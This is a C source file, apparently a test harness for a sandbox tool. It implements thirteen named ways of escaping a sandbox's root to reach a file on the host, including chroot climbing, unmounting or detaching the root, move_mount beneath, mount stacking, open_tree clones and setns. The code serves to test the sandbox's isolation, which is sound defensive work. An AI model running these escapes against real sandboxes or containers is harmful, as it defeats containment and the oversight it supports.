/*
 * escape [OPTION…] WAY FILE: find FILE, an absolute path in the tree around a root that covers that tree.
 *
 * Where pivot_root is refused, rind bwrap leaves its new root mounted over the old one (layout_root.c).  The
 * ways try to take that off, to move it away, or to climb past it.  /tmp has to be a mount of the sandbox's.
 *
 * What it prints and returns: attack.h; "done" when FILE was found, or "not found" when a way came to its end
 * without it.
 */
#include "attack.h"

#include <limits.h>
#include <stdint.h>
#include <sys/mount.h>
#include <sys/syscall.h>

/* What older headers lack. */
#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif
#define EMPTY_SOURCE  0x04  /* MOVE_MOUNT_F_EMPTY_PATH */
#define EMPTY_TARGET  0x40  /* MOVE_MOUNT_T_EMPTY_PATH */
#define BENEATH       0x200 /* MOVE_MOUNT_BENEATH */
#define CONFIG_CREATE 6     /* FSCONFIG_CMD_CREATE */
#define DETACH        2     /* MNT_DETACH */
#define EXPIRE        4     /* MNT_EXPIRE */

static const char *wanted;
static int top; /* the root, opened before anything */

static int open_path(const char *path)
{
	return (int)must("open", open(path, O_PATH | O_DIRECTORY | O_CLOEXEC));
}

/* In every place that may be the tree around, from wherever this is now. */
static void look(void)
{
	static const char *const places[] = {"", "/..", ".", "..", "/host", "/../host", "/../..",
		"host", "../host", "../../../../host"};
	char path[PATH_MAX];

	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
		snprintf(path, sizeof(path), "%s%s", places[i], wanted);
		if (access(path, F_OK) == 0) {
			puts("done");
			exit(0);
		}
	}
}

static void climb(void)
{
	look();
	for (int i = 0; i < 64; i++) {
		(void)!chdir("..");
		look();
	}
	(void)!chroot(".");
	look();
}

/* Have another root than the sandbox's: what is one's root cannot be unmounted. */
static void leave_root(void)
{
	must("chdir", chdir("/tmp"));
	must("chroot", chroot("."));
}

static void go_back_to(int directory)
{
	must("fchdir", fchdir(directory));
}

static int new_tmpfs(void)
{
	int context = (int)must("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
	must("fsconfig", syscall(SYS_fsconfig, context, CONFIG_CREATE, NULL, NULL, 0));
	return (int)must("fsmount", syscall(SYS_fsmount, context, 0, 0));
}

/* --- ways -------------------------------------------------------------------------------------- */

static void way_climb(void)
{
	climb();
	leave_root();
	go_back_to(top);
	climb();
}

static void umount_root(int flags)
{
	leave_root();
	go_back_to(top);
	must("umount2", umount2(".", flags));
	climb();
}

static void way_umount(void)
{
	umount_root(0);
}

static void way_detach(void)
{
	umount_root(DETACH);
}

static void way_expire(void)
{
	leave_root();
	go_back_to(top);
	(void)umount2(".", EXPIRE);
	must("umount2", umount2(".", EXPIRE));
	climb();
}

/* Everything that is mounted on it first, so that it is not busy for that. */
static void way_umount_all(void)
{
	static const char *const places[] = {"dev/pts", "dev/shm", "dev/null", "dev/zero",
		"dev/full", "dev/random", "dev/urandom", "dev/tty", "dev/console", "dev", "proc",
		"usr", "etc"};
	leave_root();
	go_back_to(top);
	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++)
		(void)umount2(places[i], 0);
	must("umount2", umount2(".", 0));
	climb();
}

static void way_move(void)
{
	int target = open_path("/tmp");
	leave_root();
	must("move_mount",
		syscall(SYS_move_mount, top, "", target, "", EMPTY_SOURCE | EMPTY_TARGET));
	go_back_to(target);
	climb();
}

static void way_move_beneath_itself(void)
{
	leave_root();
	must("move_mount",
		syscall(SYS_move_mount, top, "", top, "", EMPTY_SOURCE | EMPTY_TARGET | BENEATH));
	climb();
}

/* Another mount below it, to which it can then be moved, so that the other one is on top. */
static void put_beneath(int tree)
{
	must("beneath",
		syscall(SYS_move_mount, tree, "", top, "", EMPTY_SOURCE | EMPTY_TARGET | BENEATH));
}

static void move_root_into(int tree, const char *name)
{
	must("mkdirat", mkdirat(tree, name, 0755));
	must("move_mount", syscall(SYS_move_mount, top, "", tree, name, EMPTY_SOURCE));
}

static void way_beneath(void)
{
	int tree = new_tmpfs();
	leave_root();
	put_beneath(tree);
	move_root_into(tree, "root");
	go_back_to(tree);
	climb();
	must("fchdir", fchdir(tree));
	must("umount2", umount2(".", 0));
	climb();
}

/* Two, the upper of which goes into the lower, and so on. */
static void way_beneath_twice(void)
{
	int first = new_tmpfs(), second = new_tmpfs();
	leave_root();
	put_beneath(first);
	put_beneath(second);
	move_root_into(second, "root");
	must("mkdirat", mkdirat(first, "second", 0755));
	must("move_mount", syscall(SYS_move_mount, second, "", first, "second", EMPTY_SOURCE));
	go_back_to(first);
	climb();
	must("fchdir", fchdir(first));
	must("move_mount",
		syscall(SYS_move_mount, first, "", second, "", EMPTY_SOURCE | EMPTY_TARGET));
	climb();
}

/* From a copy that is in no namespace. */
static void way_from_a_copy(void)
{
	int tree = new_tmpfs();
	leave_root();
	put_beneath(tree);
	move_root_into(tree, "root");
	int copy = (int)must(
		"open_tree", syscall(SYS_open_tree, tree, "", OPEN_TREE_CLONE | AT_EMPTY_PATH));
	go_back_to(copy);
	must("chroot", chroot("."));
	must("umount2", umount2("/proc/self/fd/3/..", 0));
	climb();
}

static void way_join_again(void)
{
	int space = (int)must("open", open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC));
	leave_root();
	must("setns", setns(space, CLONE_NEWNS));
	climb();
}

static void way_pivot(void)
{
	must("chdir", chdir("/tmp"));
	must("pivot_root", syscall(SYS_pivot_root, ".", "."));
	must("umount2", umount2(".", DETACH));
	climb();
}

/* A copy of what is mounted where the root is, not of the root. */
static void way_copy_above(void)
{
	int copy =
		(int)must("open_tree", syscall(SYS_open_tree, top, "..", OPEN_TREE_CLONE | 0x8000));
	go_back_to(copy);
	climb();
}

static const struct way {
	const char *name;
	void (*go)(void);
} ways[] = {
	{"climb", way_climb},
	{"umount", way_umount},
	{"umount-all", way_umount_all},
	{"detach", way_detach},
	{"expire", way_expire},
	{"move", way_move},
	{"move-beneath-itself", way_move_beneath_itself},
	{"beneath", way_beneath},
	{"beneath-twice", way_beneath_twice},
	{"from-a-copy", way_from_a_copy},
	{"join-again", way_join_again},
	{"pivot", way_pivot},
	{"copy-above", way_copy_above},
};

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 2 && !strcmp(argv[1], "--list")) {
		for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++)
			puts(ways[i].name);
		return 0;
	}
	int taken = take_options(argv);
	if (argc != taken + 3)
		return 126;
	wanted = argv[taken + 2];
	/* Of the namespace that this is in now. */
	top = open_path("/");
	for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
		if (strcmp(ways[i].name, argv[taken + 1]) != 0)
			continue;
		ways[i].go();
		puts("not found");
		return 1;
	}
	fprintf(stderr, "no such way: %s\n", argv[taken + 1]);
	return 126;
}
